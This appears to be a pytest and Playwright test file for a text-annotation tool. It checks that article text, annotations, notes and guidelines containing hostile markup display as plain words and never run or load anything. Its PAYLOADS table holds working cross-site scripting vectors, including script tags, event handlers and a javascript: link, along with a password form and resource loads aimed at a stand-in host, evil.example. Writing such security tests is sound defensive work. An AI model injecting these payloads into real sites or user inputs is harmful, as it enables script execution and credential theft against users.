"""Markup in an article is text on the page: nothing of it runs, loads, or asks for anything."""

from __future__ import annotations

import pytest
from desk import Desk
from playwright.sync_api import Page
from readings import Sketch

pytestmark = [pytest.mark.xdist_group("studio"), pytest.mark.enable_socket]

RUN = "(window.top.ran = (window.top.ran || 0) + 1)"
PAYLOADS = {
    "script": f"<script data-evil>{RUN}</script>",
    "broken image": f'<img data-evil src="/no-such-image" onerror="{RUN}">',
    "picture of lines": f'<svg data-evil onload="{RUN}"></svg>',
    "frame": f'<iframe data-evil srcdoc="<script>{RUN}</script>"></iframe>',
    "form": '<form data-evil action="https://evil.example/"><input name="password"></form>',
    "style": "<style data-evil>body { background: url(https://evil.example/b.png) }</style>",
    "open tag": f'"><b data-evil onmouseover="{RUN}" autofocus onfocus="{RUN}" tabindex="1">',
    "remote image": '<img data-evil src="https://evil.example/i.png">',
    "script's address": f'<a data-evil href="javascript:{RUN}">यहां दबाएं</a>',
}
LOOK = "({ran: window.ran || 0, drawn: document.querySelectorAll('[data-evil]').length})"
ONE_SIZE = pytest.mark.parametrize("page", [(1366, 768)], indirect=True, ids=["1366x768"])


def harmless(page: Page) -> bool:
    page.wait_for_timeout(300)
    return bool(page.evaluate(LOOK) == {"ran": 0, "drawn": 0})


@ONE_SIZE
def test_a_page_that_takes_them_as_markup_runs_them(page: Page) -> None:
    ran = {}
    for kind, payload in PAYLOADS.items():
        page.route("**/*", lambda route: route.abort())
        page.goto("about:blank")
        page.set_content(payload, wait_until="commit")
        page.wait_for_timeout(300)
        seen = page.evaluate(LOOK)
        assert seen["drawn"] == 1, kind
        ran[kind] = seen["ran"] > 0
    assert sum(ran.values()) >= 4, ran


@ONE_SIZE
def test_no_article_draws_anything_on_the_page(desk: Desk, asked: set[str]) -> None:
    page, every = desk.page, " ".join(PAYLOADS.values())
    text = "\n".join([f"{every} बैठक", *(f"भारत ने {p} से बैठक की।" for p in PAYLOADS.values())])
    drawn = Sketch(text)
    evil = [drawn.entity(p, "PER", "X", nth=1) for p in PAYLOADS.values()]
    drawn.event("बैठक", "MEET", *(("Participant", ident) for ident in evil), nth=1)
    places = dict.fromkeys(("source", "place", "url", "story"), every)
    desk.put(text, drawn.annotation("rules-1", "weak"), **places)

    page.goto(desk.address)
    page.get_by_text("Label All Tasks").wait_for()
    assert harmless(page)
    desk.open()
    assert PAYLOADS["script"] in page.locator(".lsf-htx-richtext").inner_text()
    assert PAYLOADS["form"] in page.locator(".cur .about").inner_text()
    assert harmless(page)
    desk.hand.select("v1")
    page.locator("[data-testid=textarea-region]").first.wait_for()
    desk.shoot("20-hostile-article", every_size=True)
    assert any(PAYLOADS["frame"] in line for line in desk.hand.lines("v1", "link"))
    assert harmless(page)

    desk.hand.click(page.locator("input[name=note]"))
    page.keyboard.insert_text(every)
    desk.hand.press("Enter")
    assert harmless(page)
    desk.hand.submit()
    desk.open()
    assert harmless(page)
    page.get_by_text("Compare All").click()
    page.locator(".htx-highlight").first.wait_for()
    assert harmless(page)
    assert desk.pulled().flags.note == every
    assert asked <= {"127.0.0.1", ""}


@ONE_SIZE
def test_hostile_guidelines_are_shown_as_their_words(desk: Desk, asked: set[str]) -> None:
    page, text = desk.page, "भारत ने रूस से बैठक की।"
    guide = "\n\n".join(["# निर्देश", *PAYLOADS.values(), "![](https://evil.example/i.png)"])
    (desk.workspace.root / "guidelines.md").write_text(guide, encoding="utf-8")
    desk.put(text)
    page.goto(desk.address)
    page.get_by_text("Label All Tasks").click()
    shown = page.locator(".lsf-modal-ls__body")
    shown.wait_for()
    assert "निर्देश" in shown.inner_text()
    assert harmless(page)
    assert asked <= {"127.0.0.1", ""}
